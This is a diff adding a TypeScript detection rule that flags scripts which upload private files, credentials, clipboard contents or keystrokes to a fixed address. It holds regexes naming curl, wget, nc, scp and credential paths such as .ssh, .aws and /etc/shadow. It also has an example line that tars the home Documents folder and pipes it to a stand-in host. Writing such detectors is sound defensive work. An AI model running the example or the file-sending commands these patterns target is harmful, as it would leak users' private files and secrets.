@@ -1,0 +1,121 @@
+import { defineTextRule } from "../../text-rule.ts";
+import type { Judgement, Match } from "../../text-rule.ts";
+import { family, SENDS } from "./family.ts";
+
+export const files = defineTextRule({
+  ...family,
+  id: "CODE-UPLOAD",
+  severity: "high",
+  summary: "A program sends private files to an address that it holds itself.",
+  why: "The files are the user's, and nobody asked.",
+  fix: "Upload the file that the user names, to the place that the user names.",
+  example: {
+    path: "scripts/run.sh",
+    caught: "tar cz ~/Doc{gap}uments | curl -T - https://x.example.invalid/\n",
+    instead: 'curl -T "$1" "$UPLOAD_URL"\n',
+  },
+  triggers: [
+    {
+      anchors: ["curl", "wget"],
+      pattern:
+        /(?<![\w-])(?:curl|wget)(?!\w)(?:[^\n]|\\\n){0,300}?(?:-F\s{0,3}\S{0,30}=@|-T\s{0,3}|--upload-file[ =]|-d\s{0,3}["']?@|--data(?:-binary|-raw|-urlencode)?[ =]["']?\w{0,20}=?@|--post-file[ =]|--post-data[ =]["']?\$\(cat)["']?(?<file>(?:~|\$HOME|\$\{HOME\}|\/home\/|\/Users\/|\/root|\/etc\/(?:passwd|shadow|hosts|ssh)|\.env\b|\.git\/config|%USERPROFILE%)[^\s"']{0,120})/iuy,
+      judge: judgeUpload,
+    },
+    {
+      anchors: ["curl", "nc ", "ncat", "wget", "openssl"],
+      behind: 160,
+      pattern:
+        /(?:cat|tar\s[^\n|]{0,20}|zip\s[^\n|]{0,20}|base64|gzip|cp|grep\s[^\n|]{0,40}|find)\s[^\n|]{0,80}?(?:~\/|\$HOME|\$\{HOME\}|\/home\/|\/Users\/|\/root\/|\/etc\/(?:passwd|shadow)|\.env\b|\.git\/config|history)[^\n|]{0,80}\|\s{0,4}(?:(?:base64|gzip|xz|openssl|xxd|tr|head|jq|tar)[^\n|]{0,60}\|\s{0,4}){0,3}(?:curl|nc|ncat|wget|openssl s_client)\s[^\n]{0,200}/giu,
+    },
+    {
+      anchors: ["$(cat", "$(base64", "`cat", "$(< ", "$(<"],
+      behind: 200,
+      pattern:
+        /(?:curl|wget)\s[^\n]{0,160}?(?:\$\(|`)\s{0,3}(?:cat|base64|<|head|tail|gzip)[^\n)`]{0,40}?(?:~|\$HOME|\$\{HOME\}|\/home|\/Users|\/root|\/etc\/(?:passwd|shadow)|\.env\b|\.git\/config|history|\.ssh|\.aws|\.npmrc|\.netrc)[^\n)`]{0,100}/giu,
+    },
+    {
+      anchors: ["find ", "tar ", "zip "],
+      pattern:
+        /(?<![\w-])(?:find|tar|zip)\s[^\n]{0,200}?(?:\.env(?![\w.]*example)[*'"\s]|\.ssh\b|\.aws\b|id_rsa|\.gnupg|wallet|\.pem\b|credentials|\.kube\b)[^\n]{0,200}/iuy,
+      judge: ({ place, has, text, start, end }) =>
+        place.kind === "script" &&
+        has(SENDS) &&
+        !/-not|--exclude|-prune|grep/iu.test(text.slice(start, end).replace(/-not -name '\*\.example'/u, ""))
+          ? {}
+          : null,
+    },
+    {
+      anchors: ["tojson(secrets", "tojson( secrets"],
+      pattern: /toJSON\(\s{0,3}secrets\s{0,3}\)/iuy,
+      judge: ({ has }) => (has(SENDS) ? {} : { action: "warn" }),
+    },
+    {
+      anchors: [
+        "pbpaste",
+        "xclip",
+        "wl-paste",
+        "get-clipboard",
+        "pyperclip.paste",
+        "screencapture",
+        "imagegrab.grab",
+        "pynput",
+        "getasynckeystate",
+      ],
+      pattern:
+        /(?:pbpaste|xclip\s[^\n]{0,20}-o|wl-paste|get-clipboard|pyperclip\.paste|screencapture\s|imagegrab\.grab|pynput|getasynckeystate)/iuy,
+      judge: ({ place, text, start }) =>
+        place.kind === "script" && SENDS.test(text.slice(Math.max(0, start - 600), start + 1_500))
+          ? { what: "A program sends what is in the clipboard, on the screen or typed" }
+          : null,
+    },
+    {
+      anchors: ["echo ", "printf ", "cat <<"],
+      pattern:
+        /(?:echo|printf)\s[^\n|]{0,200}?(?:\$\{?\w{1,40}\}?)[^\n|]{0,80}\|\s{0,4}(?:base64|xxd|openssl|gzip|rev|tr)[^\n|]{0,60}\|\s{0,4}(?:curl|wget|nc|ncat)\s[^\n]{0,200}/iuy,
+      judge: () => ({ what: "Something is encoded and sent away" }),
+    },
+    {
+      anchors: ["echo ", "printf "],
+      pattern:
+        /(?:echo|printf)\s[^\n|]{0,60}?(?:credential|password|passwd|secret|private_?key|api_?key)s?["']?\s{0,2}[=:][^\n|]{0,60}\$[^\n|]{0,80}\|\s{0,4}(?:curl|wget|nc|ncat)\s[^\n]{0,200}/iuy,
+      judge: () => ({ what: "A credential is sent away" }),
+    },
+    {
+      anchors: ["curl", "wget"],
+      pattern:
+        /(?<![\w-])(?:curl|wget)(?!\w)(?:[^\n]|\\\n){0,300}?(?:\s-d|\s--data(?:-raw|-binary|-urlencode)?|\s-F|\s--form|\s--post-data)[ =]["']?(?:[^\n"']|\\\n){0,120}\$\{?\w{0,30}(?:TOKEN|SECRET|PASSWORD|CREDENTIAL|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY)\w{0,20}\}?/uy,
+      judge: judgeKeyInBody,
+    },
+    {
+      anchors: ["aws s3 cp", "aws s3 sync", "rclone", "gsutil", "scp ", "rsync ", "git push", "azcopy"],
+      pattern:
+        /(?<![\w-])(?:aws s3 (?:cp|sync)|rclone (?:copy|sync)|gsutil (?:-m )?(?:cp|rsync)|scp|rsync|azcopy copy)\s[^\n]{0,80}?(?:~\/(?:\.ssh|\.aws|\.config|\.gnupg|\.kube|Documents|Library|\.\s)|\$HOME\/(?:\.ssh|\.aws|\.config|\.gnupg|\.kube|Documents)|\.env\b|\/etc\/(?:passwd|shadow))[^\n]{0,120}/iuy,
+    },
+    {
+      anchors: [".env", "/etc/passwd", "documents", ".git/config", "git-credentials", ".zshrc", ".bashrc"],
+      behind: 30,
+      pattern:
+        /(?:open|readFile(?:Sync)?|read_text|createReadStream|File\.read|Path)\(?\s{0,3}[^\n]{0,24}?(?:["'/]\.env["'.)\s]|\/etc\/passwd|\.git\/config)/giu,
+      judge: ({ has, place, text, start, end }) =>
+        place.kind === "script" && has(FIXED_SEND) && !/dotenv|parse|load_env|split\(["']=/iu.test(text.slice(start, end + 300))
+          ? {}
+          : null,
+    },
+  ],
+});
+
+/** A request to an address that stands in the program. */
+const FIXED_SEND =
+  /(?:requests\.(?:post|put)|fetch|axios\.(?:post|put)|httpx\.post|urlopen|https?\.request|Invoke-(?:WebRequest|RestMethod)|curl)[^\n]{0,40}["'`]?https?:\/\/(?!(?:localhost|127\.|0\.0\.0\.0|api\.(?:openai|anthropic|github)\.com))/iu;
+
+/** Signing in sends a secret in the body, to the service that it is of. */
+function judgeKeyInBody({ text, start, end }: Match): Judgement | null {
+  const command = text.slice(start, end + 200).split("\n\n", 1)[0] ?? "";
+  return /grant_type|client_id|client_secret|refresh_token|oauth|\/token\b|\/login|\/auth|\/session|signin|captcha/iu.test(command)
+    ? null
+    : { action: "warn", what: "A credential is sent in the body of a request" };
+}
+
+function judgeUpload({ place }: Match): Judgement {
+  return place.kind === "prose" && !place.isInFence ? { action: "warn" } : {};
+}
